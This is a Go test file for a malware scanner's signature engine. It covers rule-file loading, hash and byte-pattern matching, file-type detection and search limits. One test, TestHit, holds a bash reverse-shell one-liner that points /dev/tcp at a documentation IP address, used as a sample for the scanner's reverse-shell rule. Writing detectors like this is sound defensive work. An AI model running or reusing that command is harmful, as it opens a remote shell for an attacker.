package signature

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/google/go-cmp/cmp"

	"github.com/pratique/pratique/internal/report"
	"github.com/pratique/pratique/internal/rulefile"
)

// user is the built-in rules with files: names and contents.
func user(t testing.TB, files ...string) *Rules {
	t.Helper()
	r, err := Load(userFiles(files...))
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func userFiles(files ...string) fstest.MapFS {
	fsys := make(fstest.MapFS)
	for i := 0; i < len(files); i += 2 {
		fsys[files[i]] = &fstest.MapFile{Data: []byte(files[i+1])}
	}
	return fsys
}

// manyPatterns is a file of signatures that match nothing.
func manyPatterns(n int) string {
	r := rand.New(rand.NewPCG(3, 4))
	var s strings.Builder
	for i := range n {
		b := make([]byte, 24)
		for k := range b {
			b[k] = byte(r.Uint32())
		}
		fmt.Fprintf(&s, "Test.%d:0:*:%x*%x\n", i, b[:16], b[16:])
	}
	return s.String()
}

func TestBuiltin(t *testing.T) {
	r, err := defaults()
	if err != nil {
		t.Fatal(err)
	}
	if len(r.rules) < 60 {
		t.Errorf("%d rules", len(r.rules))
	}
	for _, one := range r.rules {
		if one.Means == "" || one.Remove == "" || one.Severity == report.Unknown {
			t.Errorf("rule %s does not say what to do: %+v", one.ID, one.Description)
		}
		if _, err := one.compiled(); err != nil {
			t.Errorf("rule %s: %v", one.ID, err)
		}
	}
	if text, binary := r.inText().words.window, r.inBinary().words.window; text < minKeyword || binary < maxWindow {
		t.Errorf("words of %d and %d bytes make the search slow", text, binary)
	}
	again, err := newRules(rulefile.Source{Name: "malware.yaml", Content: builtin}, nil)
	if err != nil || again.Version() != r.Version() || r.Version() <= 0 || r.Version()>>48 != 0 {
		t.Errorf("versions %d and %d (%v)", again.Version(), r.Version(), err)
	}
}

const ours = `kinds:
  pest: {means: M., remove: R.}
rules:
  - {id: our-pest, title: Pest, kind: pest, severity: low, types: [shell], keywords: [pestilence], pattern: 'pestilence \d+'}
`

func TestLoad(t *testing.T) {
	r := user(t, "malware-a.yaml", ours, "malware-b.yaml", "aggressive: true\nrules:\n  - {id: eicar, disabled: true}\n", "other.txt", "not read")
	d, ok := r.Describe("our-pest")
	want := Description{ID: "our-pest", Title: "Pest", Severity: report.Low, Means: "M.", Remove: "R."}
	if diff := cmp.Diff(want, d); diff != "" || !ok {
		t.Error(diff)
	}
	if _, ok := r.Describe("eicar"); ok || !r.Aggressive() || Default().Aggressive() {
		t.Error("the second file was not read")
	}
	if got := rulesOf(find(t, r, "x.sh", "pestilence 42")); !slices.Equal(got, []string{"our-pest"}) {
		t.Errorf("found %v", got)
	}
	if got := find(t, r, "x.sh", "pestilence x"); len(got) > 0 {
		t.Errorf("found %v", got)
	}
	if got, err := Load(fstest.MapFS{}); err != nil || got != Default() {
		t.Errorf("without files: %v", err)
	}
}

func TestOwns(t *testing.T) {
	for name, want := range map[string]bool{
		"malware.yaml": true, "malware-team.yaml": true, "a.hdb": true, "a.hsb": true, "a.ndb": true, "a.fp": true, "a.sfp": true, "a.sha256": true,
		"secrets.yaml": false, "a.ldb": false, "hdb": false, "a.yaml": false,
	} {
		if Owns(name) != want {
			t.Errorf("%s: %t", name, !want)
		}
	}
}

func TestErrors(t *testing.T) {
	rule := func(fields string) string {
		return "rules:\n  - {id: a-rule, title: T, kind: miner, severity: low, " + fields + "}\n"
	}
	for _, tt := range []struct{ name, content, want string }{
		{"malware.yaml", "", "malware.yaml:1: the file is empty"},
		{"malware.yaml", "a: [", "malware.yaml:1: did not find expected node content"},
		{"malware.yaml", "nothing: 1\n", `malware.yaml:1: "nothing" is not a field`},
		{"malware.yaml", "rules: 1\n", "malware.yaml:1: expected a list"},
		{"malware.yaml", "aggressive: true\n---\nx: 1\n", "malware.yaml:1: there is more than one document"},
		{"malware.yaml", "rules:\n  - {id: a, nothing: 1}\n", `malware.yaml:2: "nothing" is not a field`},
		{"malware.yaml", "rules:\n\n  - {id: A}\n", `malware.yaml:3: id "A": an id has 2 to 64 lower-case letters, digits and hyphens`},
		{"malware.yaml", "kinds:\n  K: {means: x}\n", `malware.yaml:2: kind "K": an id has 2 to 64 lower-case letters, digits and hyphens`},
		{"malware.yaml", "rules:\n  - {id: no-such, disabled: true}\n", "malware.yaml:2: rule no-such: there is no such rule to disable"},
		{"malware.yaml", ours + strings.SplitAfterN(ours, "rules:\n", 2)[1], "malware.yaml:5: rule our-pest is there twice, the first time in malware.yaml"},
		{"malware.yaml", rule("types: [shell]"), "malware.yaml:2: rule a-rule: keywords, paths or check are missing: a rule without them would be tried everywhere"},
		{"malware.yaml", rule("keywords: [abcde]"), "malware.yaml:2: rule a-rule: types are missing"},
		{"malware.yaml", rule("types: [shell], keywords: [abc]"), `malware.yaml:2: rule a-rule: keyword "abc": a keyword has 5 to 64 bytes`},
		{"malware.yaml", rule("types: [shell], keywords: [abcde], pattern: '('"), "malware.yaml:2: rule a-rule: error parsing regexp: missing closing ): `(`"},
		{"malware.yaml", rule("types: [shell], keywords: [abcde], pattern: 'a*'"), "malware.yaml:2: rule a-rule: the pattern matches the empty text"},
		{"malware.yaml", rule("types: [shell], keywords: [abcde], not: [x]"), "malware.yaml:2: rule a-rule: not needs a pattern"},
		{"malware.yaml", rule("types: [shell], paths: [/etc]"), `malware.yaml:2: rule a-rule: paths: "/etc" is no pattern of the end of a path: use a name, *.ext or dir/name`},
		{"malware.yaml", rule("check: eicar, keywords: [abcde]"), "malware.yaml:2: rule a-rule: check stands instead of keywords, all, pattern and not"},
		{"malware.yaml", strings.Replace(rule("check: upx"), "low", "loud", 1), `malware.yaml:2: rule a-rule: "loud" is not a severity`},
		{"a.hdb", "# x\n\nzz:1:N\n", `a.hdb:3: "zz" is no MD5, SHA-1 or SHA-256 in hexadecimal digits`},
		{"a.hdb", "d41d8cd98f00b204e9800998ecf8427e:x:N\n", `a.hdb:1: size "x" is neither a number of bytes nor *`},
		{"a.hsb", "d41d8cd98f00b204e9800998ecf8427e:1\n", "a.hsb:1: expected HASH:SIZE:NAME"},
		{"a.fp", "d41d8cd98f00b204e9800998ecf8427e:1:\n", "a.fp:1: a signature's name has 1 to 200 bytes"},
		{"a.sha256", "\nd41d8cd98f00b204e9800998ecf8427e  x\n", `a.sha256:2: "d41d8cd98f00b204e9800998ecf8427e" is no SHA-256 in hexadecimal digits`},
		{"a.ndb", "N:0:*:616\n", `a.ndb:1: "6" at place 3 is no part of a pattern`},
		{"a.ndb", "N:0:x:61626364\n", `a.ndb:1: offset "x" is none of *, n, EOF-n, EP+n, Sx+n, SL+n`},
		{"a.ndb", "N:0:*:*61626364\n", "a.ndb:1: a pattern has known bytes before and after each gap"},
		{"a.ndb", "N:0:*:61626364{5-2}61\n", `a.ndb:1: "{5-2}61" at place 9 is no part of a pattern`},
		{"a.ndb", "N:0:*\n", "a.ndb:1: expected NAME:TYPE:OFFSET:BYTES"},
		{"a.ndb", "N:x:*:61626364\n", `a.ndb:1: type "x" is no number`},
		{"a.ndb", "N\x1b:0:*:61626364\n", `a.ndb:1: the text "N\x1b" holds what cannot be printed`},
	} {
		_, err := Load(userFiles(tt.name, tt.content))
		if err == nil || !strings.HasPrefix(err.Error(), tt.want) {
			t.Errorf("%s %q:\n got %v\nwant %s", tt.name, tt.content, err, tt.want)
		}
	}
}

func TestSkipped(t *testing.T) {
	r := user(t, "a.ndb", strings.Join([]string{
		"A:3:*:61626364", "B:1:EP+0:61626364", "C:0:VI:61626364", "D:0:*:6162", "E:0:*:61626364(B)", "F:0:*:61626364(61|6262)", "G:0:*:61626364",
		"H:0:SE1:61626364", "I:0:*:61626364(6?|62)",
	}, "\n"))
	skips, n := r.Skipped()
	var lines []int
	for _, s := range skips {
		if s.File != "a.ndb" || s.Reason == "" {
			t.Errorf("%+v", s)
		}
		lines = append(lines, s.Line)
	}
	if diff := cmp.Diff([]int{1, 2, 3, 4, 5, 6, 8, 9}, lines); diff != "" || n != 8 {
		t.Error(n, diff)
	}
	if got := rulesOf(find(t, r, "x", "--abcd--")); !slices.Equal(got, []string{"G"}) {
		t.Errorf("found %v", got)
	}
}

func TestVersionFollowsWhatDecides(t *testing.T) {
	sum := strings.Repeat("ab", 32)
	base := Default().Version()
	for _, tt := range []struct {
		name, content string
		changes       bool
	}{
		{"a.hdb", "d41d8cd98f00b204e9800998ecf8427e:1:N\n", true},
		{"a.hsb", sum + ":1:N\n", true},
		{"a.ndb", "N:0:*:61626364\n", true},
		{"a.ndb", "N:3:*:61626364\n", false}, // skipped
		{"a.fp", "d41d8cd98f00b204e9800998ecf8427e:1:N\n", true},
		{"malware.yaml", ours, true},
		{"malware.yaml", "aggressive: true\n", true},
		{"malware.yaml", "aggressive: false\n", false},
		// Applied to facts.
		{"a.sha256", sum + "\n", false},
		{"a.sfp", sum + ":1:N\n", false},
	} {
		if got := user(t, tt.name, tt.content).Version(); (got != base) != tt.changes {
			t.Errorf("%s %q: changed %t", tt.name, tt.content, got != base)
		}
	}
	if user(t, "a.fp", "d41d8cd98f00b204e9800998ecf8427e:1:N").Version() == user(t, "a.hdb", "d41d8cd98f00b204e9800998ecf8427e:1:N").Version() {
		t.Error("a list of harmless files has the version of one of malicious ones")
	}
}

func TestHashes(t *testing.T) {
	const content = "a file"
	sum := sha256.Sum256([]byte(content))
	digits := hex.EncodeToString(sum[:])
	const md5 = "e3f1e7f9b2cb3ef9a0b0f6a7e9ab9a5f"
	match := func(r *Rules, wanted bool) (string, bool) {
		h := r.Hash(int64(len(content)), wanted)
		if h == nil {
			return "", false
		}
		h.Write([]byte(content[:3]))
		h.Write([]byte(content[3:]))
		hit, _ := h.Match()
		return hit.Rule, h.Excused()
	}
	sums := func(size string) []string {
		h := user(t, "x.hdb", md5+":*:X").Hash(6, true)
		h.Write([]byte(content))
		sha := user(t, "x.hsb", strings.Repeat("ab", 20)+":*:X").Hash(6, true)
		sha.Write([]byte(content))
		return []string{
			hex.EncodeToString(h.md5.Sum(nil)) + ":" + size + ":By.MD5",
			hex.EncodeToString(sha.sha1.Sum(nil)) + ":" + size + ":By.SHA1:73",
			digits + ":" + size + ":By.SHA256:73",
		}
	}
	for n, line := range sums("6") {
		name := []string{"By.MD5", "By.SHA1", "By.SHA256"}[n]
		if got, _ := match(user(t, "x.hsb", line), false); got != name {
			t.Errorf("%s: found %q", line, got)
		}
		if got, _ := match(user(t, "x.hsb", sums("*")[n]), false); got != name {
			t.Errorf("%s of any size: found %q", name, got)
		}
		if got, _ := match(user(t, "x.hsb", sums("7")[n]), true); got != "" {
			t.Errorf("%s of another size: found %q", name, got)
		}
		if h := user(t, "x.hsb", sums("7")[n]).Hash(6, false); h != nil {
			t.Error("a file of another size is hashed")
		}
		if _, excused := match(user(t, "x.fp", line), true); excused != (n < 2) {
			t.Errorf("%s: excused %t", line, excused)
		}
	}
	r := user(t, "x.sha256", "# known\n"+digits+"  bad/x\n"+strings.Repeat("cd", 32)+"\n", "x.sfp", digits+":*:Fine")
	if r.Hash(6, false) != nil {
		t.Error("a plain list makes files be hashed")
	}
	if got, _ := match(r, true); got != "" {
		t.Errorf("found %q by a plain list", got)
	}
	if name, ok := r.KnownHash(sum[:], 6); name != "bad/x" || !ok {
		t.Errorf("known as %q, %t", name, ok)
	}
	other := [32]byte{1}
	if name, ok := r.KnownHash(other[:], 6); ok {
		t.Errorf("known as %q", name)
	}
	unnamed, _ := hex.DecodeString(strings.Repeat("cd", 32))
	if name, ok := r.KnownHash(unnamed, 1); name != UnnamedHash || !ok {
		t.Errorf("known as %q, %t", name, ok)
	}
	if !r.Harmless(sum[:], 6) || r.Harmless(other[:], 6) || Default().Harmless(sum[:], 6) {
		t.Error("harmless is wrong")
	}
}

func TestPatterns(t *testing.T) {
	const text = "GIF89a .... begin of something MIDDLE and the END"
	for _, tt := range []struct {
		where, bytes string
		found        bool
	}{
		{"*", "begin", true},
		{"*", "Begin", false},
		{"12", "begin", true},
		{"11", "begin", false},
		{"10,2", "begin", true},
		{"10,1", "begin", false},
		{"0", "GIF", true},
		{"EOF-3", "END", true},
		{"EOF-4", "END", false},
		{"EOF-9,8", "END", true},
		{"*", "begin*END", true},
		{"*", "END*begin", false},
		{"*", "begin{1-20}thing", true},
		{"*", "begin{-8}some", true},
		{"*", "begin{-3}some", false},
		{"*", "begin{4}some", true},
		{"*", "begin{5}some", false},
		{"*", "begin{13-}MIDDLE", true},
		{"*", "begin{30-}MIDDLE", false},
		{"*", "MIDDLE[1-6]the", true},
		{"*", "begin??o", true},
		{"*", "begin?0o", true},
		{"*", "begin?1o", false},
		{"*", "begin2?o", true},
		{"*", "begin(20|2d)of", true},
		{"*", "begin(2e|2d)of", false},
		{"*", "begin!(2e|2d)of", true},
		{"*", "begin!(2e|20)of", false},
		{"*", "MIDDLE(20616e64|20616e65)20", true},
		{"*", "begin*some{-20}the*END", true},
	} {
		r := user(t, "x.ndb", "X:0:"+tt.where+":"+hexed(tt.bytes))
		if _, n := r.Skipped(); n > 0 {
			t.Errorf("%s %s is skipped", tt.where, tt.bytes)
		}
		if hits := find(t, r, "x", text); len(hits) > 0 != tt.found {
			t.Errorf("%s %s (%s): %v", tt.where, tt.bytes, hexed(tt.bytes), hits)
		}
	}
}

// hexed writes the letters of a pattern as numbers and leaves the rest.
func hexed(s string) string {
	var out strings.Builder
	for i := 0; i < len(s); {
		switch c := s[i]; {
		case c == '{' || c == '[' || c == '(':
			end := i + strings.IndexAny(s[i:], "}])") + 1
			out.WriteString(s[i:end])
			i = end
		case c == '*' || c == '!':
			out.WriteByte(c)
			i++
		case c == '?' || c >= '0' && c <= '9':
			out.WriteString(s[i : i+2])
			i += 2
		default:
			fmt.Fprintf(&out, "%02x", c)
			i++
		}
	}
	return out.String()
}

func TestPatternTargets(t *testing.T) {
	elf := program{section: 64, extra: "marker"}.build()
	at := strings.Index(elf, "marker") - (64 + 56)
	for _, tt := range []struct {
		line, path, content string
		found               bool
	}{
		{"X:6:*:6d61726b6572", "x", elf, true},
		{"X:1:*:6d61726b6572", "x", elf, false},
		{"X:1:*:6d61726b6572", "x.exe", pe("marker"), true},
		{fmt.Sprintf("X:6:EP+%d:6d61726b6572", at), "x", elf, true},
		{fmt.Sprintf("X:6:EP+%d:6d61726b6572", at+1), "x", elf, false},
		{fmt.Sprintf("X:6:EP+%d,5:6d61726b6572", at-2), "x", elf, true},
		{"X:6:EP+99999:6d61726b6572", "x", elf, false},
		{"X:6:S1+0:6d61726b6572", "x", elf, false},
		{"X:7:*:6d61726b6572206d61726b6572", "x.txt", "Marker \n\t MARKER", true},
		{"X:7:*:6d61726b6572206d61726b6572", "x.txt", "MarkerMARKER", false},
		{"X:7:*:6d61726b6572", "x", elf, false},
		{"X:10:*:6d61726b6572", "x.pdf", "%PDF-1.4 marker", true},
		{"X:10:*:6d61726b6572", "x.pdf", "marker", false},
		{"X:5:*:6d61726b6572", "x.gif", "GIF89a marker", true},
		{"X:12:*:6d61726b6572", "x.class", "\xca\xfe\xba\xbe\x00\x00\x00\x34marker", true},
	} {
		r := user(t, "x.ndb", tt.line)
		hits := find(t, r, tt.path, tt.content)
		if slices.Contains(rulesOf(hits), "X") != tt.found {
			t.Errorf("%s in %s: %v", tt.line, tt.path, hits)
		}
	}
	if r := user(t, "x.ndb", "Some.Name:0:*:61626364", "x.hdb", "d41d8cd98f00b204e9800998ecf8427e:1:N"); !r.IsPattern("Some.Name") || r.IsPattern("N") {
		t.Error("a pattern is told from a hash wrongly")
	}
}

func TestWords(t *testing.T) {
	r := rand.New(rand.NewPCG(5, 6))
	for range 200 {
		var list []word
		for range 1 + r.IntN(20) {
			b := make([]byte, minWord+r.IntN(6))
			for i := range b {
				b[i] = "abAB\x00 "[r.IntN(6)]
			}
			list = append(list, word{text: b, exact: r.IntN(2) == 0})
		}
		text := make([]byte, r.IntN(400))
		for i := range text {
			text[i] = "abAB\x00 "[r.IntN(6)]
		}
		type at struct{ word, start int }
		var got, want []at
		newWords(slices.Clone(list)).find(text, func(word, start int) bool {
			got = append(got, at{word, start})
			return true
		})
		for start := range text {
			for n, w := range list {
				if end := start + len(w.text); end <= len(text) && (string(text[start:end]) == string(w.text) || !w.exact && strings.EqualFold(string(text[start:end]), string(w.text))) {
					want = append(want, at{n, start})
				}
			}
		}
		order := func(a, b at) int { return (a.start-b.start)*1000 + a.word - b.word }
		slices.SortFunc(got, order)
		if !slices.Equal(got, want) {
			t.Fatalf("%v in %q:\n got %v\nwant %v", list, text, got, want)
		}
	}
}

func TestKindOf(t *testing.T) {
	for _, tt := range []struct {
		path, head string
		want       Kind
	}{
		{"usr/bin/x", "\x7fELF\x02\x01", ELF},
		{"x.png", "\x7fELF\x02\x01", ELF},
		{"x", "#!/bin/sh\n", Shell},
		{"x", "#!/usr/bin/env -S python3.11 -u\n", Python},
		{"x", "#! /usr/bin/perl -w\n", Perl},
		{"x", "#!/usr/bin/env FOO=1 node\n", JavaScript},
		{"x", "#!/opt/strange\n", Shell},
		{"x.txt", "#! is how scripts begin", Shell},
		{"x.py", "import os", Python},
		{"x.PHP.bak", "<html>", PHP},
		{"x.html", "<?php echo 1;", HTML | PHP},
		{"x.md", "text", 0},
		{"etc/cron.d/x", "* * * * *", Cron | Shell},
		{"var/spool/cron/crontabs/root", "* * * * *", Cron | Shell},
		{"root/.bashrc", "x", Startup | Shell},
		{"home/a/.profile", "x", Startup | Shell},
		{"etc/profile.d/x.sh", "x", Startup | Shell},
		{"etc/init.d/x", "#!/bin/sh", Startup | Shell},
		{"etc/ld.so.preload", "/x.so", Preload},
		{"etc/systemd/system/x.service", "[Unit]", Systemd},
		{"usr/lib/systemd/system/x.timer", "[Unit]", Systemd},
		{"a.png", "\x89PNG\r\n\x1a\n", Picture},
		{"a.gif", "GIF89a<?php x", Picture | PHP},
		{"a.jpg", "plain text", Picture},
		{"X.class", "\xca\xfe\xba\xbe\x00\x00\x00\x41", Class},
		{"x", "\xca\xfe\xba\xbe\x00\x00\x00\x02", MachO},
		{"x.sh", "a\x00b", 0},
		{"usr/share/doc/cron/README", "text", 0},
	} {
		if got := KindOf(tt.path, []byte(tt.head)); got != tt.want {
			t.Errorf("%s %q: %b, want %b", tt.path, tt.head, got, tt.want)
		}
	}
}

func TestHit(t *testing.T) {
	text := "#!/bin/bash\n\nset -e\n  bash -i >& /dev" + "/tcp/203.0.113.5/4444 0>&1\x1b[2J\n"
	want := []Hit{{Rule: "reverse-shell-dev-tcp", Engine: EngineRules, Line: 4, Excerpt: "bash -i >& /dev" + "/tcp/"}}
	if diff := cmp.Diff(want, find(t, Default(), "x", text)); diff != "" {
		t.Error(diff)
	}
}

// TestBounds holds that a text made to be slow is given up, and that this is said.
func TestBounds(t *testing.T) {
	content := []byte(strings.Repeat("curl -s http://a/", 4<<20/17))
	_, complete := Default().Find(t.Context(), File{Path: "x.sh", Size: int64(len(content)), Kind: Shell, Content: content})
	if !complete {
		t.Log("given up")
	}
	if _, complete := Default().Find(t.Context(), File{Path: "x.sh", Size: 100 << 20, Kind: Shell, Content: content[:1000]}); complete {
		t.Error("a file is said to be looked at to its end of which only the beginning was there")
	}
	r := user(t, "x.ndb", "X:0:*:61616161{0-1000}62{0-1000}62{0-1000}62{0-1000}63")
	evil := []byte(strings.Repeat("a", 1<<20) + strings.Repeat("b", 4<<20))
	if hits, _ := r.Find(t.Context(), File{Path: "x", Size: int64(len(evil)), Content: evil}); len(hits) > 0 {
		t.Error(hits)
	}
}
